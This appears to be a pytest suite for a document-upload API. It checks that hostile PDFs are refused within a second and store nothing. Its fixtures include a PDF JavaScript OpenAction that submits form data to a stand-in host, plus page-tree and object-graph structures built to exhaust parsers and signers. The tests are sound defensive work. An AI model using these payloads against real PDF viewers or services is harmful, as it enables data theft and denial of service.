"""Hostile PDFs over HTTP: refused in milliseconds for every upload and /validate, storing
nothing; active content is refused at intake and reported by /validate."""

from __future__ import annotations

import time
from collections.abc import Callable

import httpx
import pytest

from tests.api.conftest import Api, Logins
from tests.api.support import DRAFT_FIELDS, assert_error, drafted, stored
from tests.support.pdfs import page_count_pdf, pdf_from_objects, pdf_with, shared_kids_pdf

JS_OPEN_ACTION = pdf_with(
    b"/OpenAction << /S /JavaScript /JS (this.submitForm('https://thu-thap.test/');) >>"
)
HOSTILE = [
    pytest.param(shared_kids_pdf(40), "pdf_page_tree_invalid", id="shared-kids-depth-40"),
    pytest.param(page_count_pdf("100000000000000000000"), "pdf_too_complex", id="count-1e20"),
]
Upload = Callable[[httpx.Client, str, bytes], httpx.Response]


def _draft(client: httpx.Client, _doc: str, pdf: bytes) -> httpx.Response:
    return client.post("/documents", data=DRAFT_FIELDS,
                       files={"file": ("du-thao.pdf", pdf, "application/pdf")})


def _revision(client: httpx.Client, doc: str, pdf: bytes) -> httpx.Response:
    return client.post(f"/documents/{doc}/revisions", headers={"If-Match": '"1"'},
                       files={"file": ("ban-sua.pdf", pdf, "application/pdf")})


def _appendix(client: httpx.Client, doc: str, pdf: bytes) -> httpx.Response:
    return client.post(f"/documents/{doc}/appendices", data={"title": "Phụ lục I"},
                       files={"file": ("pl.pdf", pdf, "application/pdf")})


def _validate(client: httpx.Client, _doc: str, pdf: bytes) -> httpx.Response:
    return client.post("/validate", files={"file": ("x.pdf", pdf, "application/pdf")})


UPLOADS = [pytest.param(u, id=u.__name__.lstrip("_"))
           for u in (_draft, _revision, _appendix, _validate)]


@pytest.mark.parametrize("upload", UPLOADS)
@pytest.mark.parametrize(("pdf", "code"), HOSTILE)
def test_a_hostile_page_tree_is_refused_at_once_and_stores_nothing(
    shared_api: Api, login: Logins, upload: Upload, pdf: bytes, code: str
) -> None:
    official = login("official_a")
    doc = drafted(official)
    before = stored(shared_api)
    started = time.perf_counter()
    r = upload(official, doc, pdf)
    elapsed = time.perf_counter() - started
    print(f"{upload.__name__} {code}: {elapsed * 1000:.1f} ms over HTTP")
    assert_error(r, 422, code)
    # Milliseconds in fact (bench/hostile_pdfs.py); a generous bound for a loaded machine.
    assert elapsed < 1.0
    assert stored(shared_api) == before


@pytest.mark.parametrize("upload", UPLOADS[:3])
def test_active_content_is_refused_at_intake_naming_it(
    shared_api: Api, login: Logins, upload: Upload
) -> None:
    official = login("official_a")
    doc = drafted(official)
    before = stored(shared_api)
    body = assert_error(upload(official, doc, JS_OPEN_ACTION), 422, "active_content")
    assert "JavaScript action at /Root/OpenAction" in body["detail"]
    assert stored(shared_api) == before


def test_validate_reports_active_content_in_json_and_html(shared_api: Api,
                                                          login: Logins) -> None:
    official = login("official_a")
    before = stored(shared_api)
    r = _validate(official, "", JS_OPEN_ACTION)
    assert r.status_code == 200, r.text
    report = r.json()
    assert report["bottom_line"] == "unsigned"
    assert report["active_content"] == ["JavaScript action at /Root/OpenAction",
                                        "JavaScript (/JS) at /Root/OpenAction"]
    assert "active content" in report["explanation_en"]
    assert "nội dung chủ động" in report["explanation_vi"]
    page = official.post("/validate?format=html",
                         files={"file": ("x.pdf", JS_OPEN_ACTION, "application/pdf")}).text
    assert "Nội dung chủ động" in page
    assert "JavaScript action at /Root/OpenAction" in page
    # A plain PDF says there is none.
    clean = _validate(official, "", pdf_with()).json()
    assert clean["active_content"] == []
    assert "active content" not in clean["explanation_en"]
    assert stored(shared_api) == before


def test_a_go_to_page_one_open_action_is_accepted(login: Logins) -> None:
    r = _draft(login("official_a"), "", pdf_with(b"/OpenAction [3 0 R /Fit]"))
    assert r.status_code == 201, r.text


def test_an_object_graph_that_would_stall_the_seal_is_refused_as_a_draft(
    shared_api: Api, login: Logins
) -> None:
    # Inert, but pyHanko's diff analysis after numbering would map 2^40 paths.
    bodies = [b"<< /Type /Catalog /Pages 2 0 R /X 4 0 R >>",
              b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
              b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"]
    bodies += [f"[{5 + i} 0 R {5 + i} 0 R]".encode() for i in range(40)]
    bodies.append(b"<< /Title (inert) >>")
    before = stored(shared_api)
    started = time.perf_counter()
    r = _draft(login("official_a"), "", pdf_from_objects(bodies))
    assert time.perf_counter() - started < 1.0
    assert_error(r, 422, "pdf_too_complex")
    assert stored(shared_api) == before
